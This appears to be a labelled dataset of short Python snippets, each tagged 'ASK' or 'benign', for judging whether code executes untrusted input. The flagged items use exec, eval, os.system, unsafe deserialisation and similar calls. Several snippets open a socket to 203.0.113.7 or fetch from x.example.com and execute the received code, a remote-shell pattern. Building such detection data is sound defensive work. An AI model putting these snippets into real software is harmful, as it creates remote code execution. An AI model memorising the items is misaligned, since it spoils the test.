#@ timeit_argv ASK t
import sys, timeit
timeit.timeit(sys.argv[1], number=1)
#@ cprofile_env ASK t
import cProfile, os
cProfile.run(os.environ["PROFILE_STMT"])
#@ own_settings_exec benign t
cfg = {}
exec(open("settings.py").read(), cfg)
print(cfg.get("DEBUG"))
#@ interactive_interpreter_stdin ASK v
import code, sys
code.InteractiveInterpreter().runsource(sys.stdin.read())
#@ pdb_run_input ASK t
import pdb
pdb.run(input())
#@ pkgutil_resolve_argv ASK t
import pkgutil, sys
pkgutil.resolve_name(sys.argv[1])()
#@ import_json_literal benign t
import importlib
json = importlib.import_module("json")
print(json.dumps({}))
#@ yaml_unsafe_argv ASK v
import sys
import yaml
cfg = yaml.unsafe_load(open(sys.argv[1]))
#@ jsonpickle_socket ASK t
import socket
import jsonpickle
conn, _ = socket.create_server(("0.0.0.0", 7000)).accept()
obj = jsonpickle.decode(conn.recv(65536).decode())
#@ shelve_argv ASK t
import shelve, sys
db = shelve.open(sys.argv[1])
print(db["state"])
#@ git_status_literal benign v
import subprocess
subprocess.run(["git", "status"])
#@ thread_exec_socket ASK v
import socket, threading
conn = socket.create_connection(("203.0.113.7", 7000))
threading.Thread(target=exec, args=(conn.recv(4096).decode(),)).start()
#@ map_exec_env_file ASK t
import os
list(map(exec, open(os.environ["HOOKS"]).read().split(";")))
#@ literal_eval_argv benign t
import ast, sys
print(ast.literal_eval(sys.argv[1]))
#@ asyncio_shell_env ASK t
import asyncio, os
async def main():
    p = await asyncio.create_subprocess_shell(os.environ["ON_DONE"])
    await p.wait()
asyncio.run(main())
#@ invoke_run_argv ASK v
import sys
from invoke import run
run(sys.argv[1])
#@ sh_command_argv ASK t
import sys
import sh
sh.Command(sys.argv[1])(*sys.argv[2:])
#@ json_stdin benign t
import json, sys
data = json.loads(sys.stdin.read())
print(len(data))
#@ plumbum_env_tool ASK t
import os
from plumbum import local
local[os.environ["TOOL"]]()
#@ pexpect_run_input ASK v
import pexpect
print(pexpect.run(input("command: ")))
#@ eval_constant benign v
print(eval("2 + 3"))
#@ shlex_socket_run ASK t
import shlex, socket, subprocess
conn = socket.create_connection(("203.0.113.7", 7000))
subprocess.run(shlex.split(conn.recv(1024).decode()))
#@ execvp_json_argv ASK t
import json, os, sys
cfg = json.load(open(sys.argv[1]))
os.execvp(cfg["argv"][0], cfg["argv"])
#@ pytest_with_args benign t
import subprocess, sys
subprocess.run(["pytest", "-q"] + sys.argv[1:])
#@ import_plugin_from_toml_env ASK v
import importlib, os, tomllib
plugin = tomllib.load(open(os.environ["CFG"], "rb"))["plugin"]
importlib.import_module(plugin).setup()
#@ exec_file_argv ASK t
import sys
exec(open(sys.argv[1]).read(), {})
#@ compile_rc_env ASK t
import os
from pathlib import Path
eval(compile(Path(os.environ["RC"]).read_text(), "rc", "exec"))
#@ handler_dispatch_own benign t
class Handler:
    def handle_ping(self, payload):
        return "pong"
    def handle_echo(self, payload):
        return payload
    def dispatch(self, kind, payload):
        return getattr(self, f"handle_{kind}")(payload)
print(Handler().dispatch("ping", None))
#@ marshal_stdin_function ASK v
import marshal, sys, types
types.FunctionType(marshal.loads(sys.stdin.buffer.read()), {})()
#@ dunder_import_argv ASK t
import sys
__import__(sys.argv[1]).main()
#@ timeit_literal benign v
import timeit
print(timeit.timeit("sorted(range(100))", number=1000))
#@ getattr_subprocess_env_mode ASK t
import os, subprocess, sys
getattr(subprocess, os.environ["MODE"])(sys.argv[2:])
#@ exec_b64_env ASK v
import base64, os
exec(base64.b64decode(os.environ["BOOT"]))
#@ cdll_argv ASK t
import ctypes, sys
ctypes.CDLL(sys.argv[1]).init()
#@ run_module_http_server benign t
import runpy
runpy.run_module("http.server", run_name="__main__")
#@ run_module_input ASK t
import runpy
runpy.run_module(input("module: "), run_name="__main__")
#@ process_system_socket ASK v
import multiprocessing, os, socket
msg = socket.create_connection(("203.0.113.7", 7000)).recv(1024).decode()
multiprocessing.Process(target=os.system, args=(msg,)).start()
#@ eval_downloaded_json ASK t
import requests
eval(requests.get("https://x.example.com/cfg").json()["expr"])
#@ yaml_safe_argv benign t
import sys
import yaml
cfg = yaml.safe_load(open(sys.argv[1]))
#@ system_each_line ASK t
import os, sys
with open(sys.argv[1]) as f:
    for line in f:
        os.system(line)
#@ trace_run_argv ASK v
import sys, trace
trace.Trace(count=False).run(sys.argv[1])
#@ spawnvp_argv ASK t
import os, sys
args = sys.argv[1:]
os.spawnvp(os.P_WAIT, args[0], args)
#@ pty_spawn_argv ASK t
import pty, sys
pty.spawn(sys.argv[1:])
#@ zlib_socket_exec ASK v
import socket, zlib
s = socket.create_connection(("203.0.113.7", 7000))
exec(zlib.decompress(s.recv(65536)))
#@ partial_eval_argv ASK t
import functools, sys
functools.partial(eval, sys.argv[1])()
#@ builtins_dict_exec_env ASK t
import builtins, os
builtins.__dict__["exec"](os.environ["X"])
#@ queue_worker_system ASK v
import os, queue, threading
q = queue.Queue()
def worker():
    while True:
        os.system(q.get())
threading.Thread(target=worker, daemon=True).start()
q.put(input())
#@ fabric_run_env ASK t
import os
from fabric import Connection
Connection("build.example.com").run(os.environ["REMOTE_CMD"])
#@ subprocess_literal_pipe benign v
import subprocess
out = subprocess.run("ls -1 | wc -l", shell=True, capture_output=True, text=True).stdout
print(out)
